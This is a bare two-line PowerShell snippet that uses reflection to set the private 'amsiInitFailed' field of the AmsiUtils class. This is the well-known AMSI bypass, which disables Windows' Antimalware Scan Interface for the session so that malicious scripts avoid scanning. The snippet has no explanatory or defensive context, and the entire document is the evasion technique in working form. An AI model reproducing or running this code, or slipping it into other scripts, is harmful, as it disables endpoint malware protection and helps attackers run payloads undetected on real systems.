$t = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')
$t.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
